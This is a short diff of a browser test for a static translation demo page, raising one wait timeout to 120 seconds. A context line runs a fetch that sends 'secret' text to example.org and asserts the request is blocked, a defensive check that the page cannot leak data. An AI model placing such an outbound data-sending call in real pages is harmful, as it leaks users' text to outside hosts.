@@ -160,6 +160,6 @@ def test_static_page_in_browser(open_page, demo_checkpoint, demo_sentences, comm
             assert page.locator("#translation").inner_text() == ""
         page.get_by_label("Sentence").fill("thehousedogsingsж")
         page.get_by_role("button", name="Translate").press("Enter")
-        page.get_by_text("Unknown words: thehousedogsingsж").wait_for()
+        page.get_by_text("Unknown words: thehousedogsingsж").wait_for(timeout=120_000)
     result = page.evaluate("fetch('https://example.org/?text=secret').then(() => 'sent', () => 'blocked')")
     assert result == "blocked"
